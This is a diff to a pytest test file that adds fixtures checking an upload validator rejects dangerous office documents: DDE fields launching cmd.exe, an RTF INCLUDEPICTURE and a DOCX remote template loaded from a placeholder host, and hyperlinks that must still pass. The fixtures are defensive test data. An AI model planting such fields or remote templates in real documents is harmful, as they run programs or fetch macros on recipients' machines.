@@ -181,6 +181,21 @@ def xlsx_with_macros() -> bytes:
 PDF_JS_OPEN = media_files.pdf_with_catalog(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
 
 
+# Remote template injection: Word fetches the template (with its macros) on opening.
+REMOTE_TEMPLATE = (
+    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
+    '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+    'officeDocument/2006/relationships/attachedTemplate" Target="https://x.example/t.dotm" '
+    'TargetMode="External"/></Relationships>'
+)
+EXTERNAL_LINK = REMOTE_TEMPLATE.replace("attachedTemplate", "hyperlink")
+DDE_DOCUMENT = (
+    '<w:document><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
+    '<w:instrText xml:space="preserve"> DDE "c:\\windows\\cmd.exe" "/c calc" </w:instrText>'
+    "</w:r></w:p></w:body></w:document>"
+)
+
+
 @pytest.mark.parametrize(
     ("name", "data", "expected"),
     [
@@ -202,6 +217,26 @@ PDF_JS_OPEN = media_files.pdf_with_catalog(b"/OpenAction << /S /JavaScript /JS (
         ("note.rtf", rb"{\rtf1 Hello {\object\objemb{\*\objdata 0105000002}}}", "OLE"),
         ("note.rtf", b"{\\rtf1 {\\ob\r\njocx\\objdata 01}}", "OLE"),
         ("note.rtf", rb"{\rtf1 {\*\objdata 01050000}}", "OLE"),
+        (
+            "note.rtf",
+            rb'{\rtf1 {\field{\*\fldinst DDEAUTO c:\\windows\\cmd.exe "/c calc"}}}',
+            "fields that run other programs",
+        ),
+        (
+            "note.rtf",
+            rb'{\rtf1 {\field{\*\fldinst INCLUDEPICTURE "https://x.example/t.png"}}}',
+            "load files from elsewhere",
+        ),
+        (
+            "report.docx",
+            docx_of({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}),
+            "loaded from elsewhere",
+        ),
+        (
+            "report.docx",
+            docx_of({"word/document.xml": DDE_DOCUMENT}),
+            "fields that run other programs (DDE)",
+        ),
         ("statement.pdf", PDF_JS_OPEN, "JavaScript"),
         (
             "statement.pdf",
@@ -304,6 +339,10 @@ def test_a_pdf_bomb_stream_is_refused_within_pypdf_limits(editor_client, setting
         ("report.docx", docx_of({"word/embeddings/Microsoft_Excel_Sheet.xlsx": b"PK"})),
         ("statement.odt", media_files.odt_of()),
         ("note.rtf", rb"{\rtf1 The \\object of the talks \\objdata was peace.}"),
+        # A hyperlink to elsewhere, and prose about DDE, are ordinary content.
+        ("report.docx", docx_of({"word/_rels/document.xml.rels": EXTERNAL_LINK})),
+        ("report.docx", docx_of({"word/document.xml": "<w:t>The DDE protocol and us</w:t>"})),
+        ("note.rtf", rb"{\rtf1 {\field{\*\fldinst HYPERLINK \"https://mid.example\"}}}"),
     ],
 )
 def test_ordinary_documents_are_still_accepted(editor_client, settings, name, data):
